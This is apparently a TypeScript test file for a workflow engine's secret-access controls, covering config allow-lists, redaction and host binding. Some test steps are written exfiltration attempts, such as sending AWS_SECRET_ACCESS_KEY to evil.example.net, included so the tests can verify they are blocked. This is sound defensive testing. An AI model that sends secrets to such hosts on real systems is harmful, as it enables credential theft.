// Which secrets a run may read and where each may go come from the workspace's config only.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { secretAccess } from '../../../../core/src/runs/secret-access.js';
import { hostAllowed, parseConfigText } from '../../../../core/src/validate/config.js';
import { runOnce, TableExecutor, httpAnswer } from '../../../helpers/engine-harness.js';

const ENV: Record<string, string> = {
  OPENAI_API_KEY: 'sk-test-1',
  CRM_TOKEN: 'crm-test-2',
  AWS_SECRET_ACCESS_KEY: 'aws-test-3',
};

test('only listed secrets can be read; their values are redacted whether read or not', () => {
  const { config, diagnostics } = parseConfigText(
    'secrets:\n  OPENAI_API_KEY:\n  CRM_TOKEN: { hosts: [crm.example.com, "*.crm.example.com"] }\n',
  );
  assert.deepEqual(diagnostics, []);
  const access = secretAccess(config, (name) => ENV[name]);
  assert.equal(access.secret('OPENAI_API_KEY'), 'sk-test-1');
  assert.throws(
    () => access.secret('AWS_SECRET_ACCESS_KEY'),
    (error: Error & { code?: string }) =>
      error.code === 'secret-not-listed' &&
      /add AWS_SECRET_ACCESS_KEY under secrets/.test(error.message),
  );
  assert.equal(access.secretHosts('OPENAI_API_KEY'), undefined);
  assert.deepEqual(access.secretHosts('CRM_TOKEN'), ['crm.example.com', '*.crm.example.com']);
  assert.deepEqual(
    [...access.redact],
    [
      ['OPENAI_API_KEY', 'sk-test-1'],
      ['CRM_TOKEN', 'crm-test-2'],
    ],
  );
  // The list form, and no config at all.
  assert.equal(
    secretAccess(parseConfigText('secrets: [CRM_TOKEN]').config, (n) => ENV[n]).secret('CRM_TOKEN'),
    'crm-test-2',
  );
  assert.throws(() => secretAccess({}, (n) => ENV[n]).secret('CRM_TOKEN'), /not listed/);
});

test('host patterns: exact names, and *. for subdomains only', () => {
  const hosts = ['crm.example.com', '*.api.example.com'];
  assert.equal(hostAllowed('crm.example.com', hosts), true);
  assert.equal(hostAllowed('CRM.Example.com.', hosts), true);
  assert.equal(hostAllowed('eu.api.example.com', hosts), true);
  assert.equal(hostAllowed('api.example.com', hosts), false);
  assert.equal(hostAllowed('crm.example.com.evil.net', hosts), false);
  assert.equal(hostAllowed('evilcrm.example.com', hosts), false);
});

test('a bad secrets setting is reported on the config', () => {
  const { diagnostics } = parseConfigText('secrets:\n  bad-name: {}\n  OK: { hosts: [] }\n');
  assert.ok(diagnostics.length > 0);
});

test('a run that reads an unlisted secret fails before its first step sends anything', async () => {
  const access = secretAccess(parseConfigText('secrets: [TOKEN]').config, (n) => ENV[n] ?? 'v');
  const executor = new TableExecutor({ http: async () => httpAnswer({ ok: true }) });
  const { result, record } = await runOnce(
    {
      name: 'cloud',
      steps: [
        { id: 'a', http: { url: 'https://ok.example.com/' } },
        {
          id: 'b',
          http: {
            url: 'https://evil.example.net/',
            headers: { x: '${{ secrets.AWS_SECRET_ACCESS_KEY }}' },
          },
        },
      ],
    },
    { executor, secretAccess: access },
  );
  assert.equal(result.status, 'failed');
  assert.equal(result.error?.code, 'secret-not-listed');
  assert.equal(executor.calls.length, 0, 'not even the first step ran');
  assert.deepEqual(record.steps, []);
});

test('a secret bound to hosts is sent there, and nowhere else', async () => {
  const access = secretAccess(
    parseConfigText('secrets:\n  CRM_TOKEN: { hosts: [crm.example.com] }\n').config,
    (n) => ENV[n],
  );
  const run = (url: string) => {
    const executor = new TableExecutor({ http: async () => httpAnswer({ ok: true }) });
    return runOnce(
      {
        name: 'crm',
        steps: [{ id: 'a', http: { url, auth: { bearer: '${{ secrets.CRM_TOKEN }}' } } }],
      },
      { executor, secretAccess: access },
    ).then((outcome) => ({ ...outcome, sent: executor.calls.length }));
  };
  const fine = await run('https://crm.example.com/customers/1');
  assert.equal(fine.result.status, 'succeeded', JSON.stringify(fine.result.error));
  const elsewhere = await run('https://crm.example.com.evil.net/customers/1');
  assert.equal(elsewhere.result.status, 'failed');
  assert.equal(elsewhere.result.error?.code, 'secret-host');
  assert.match(
    elsewhere.result.error?.message ?? '',
    /secrets\.CRM_TOKEN may only be sent to crm\.example\.com, not to crm\.example\.com\.evil\.net/,
  );
  assert.equal(elsewhere.sent, 0, 'the request never left');
});
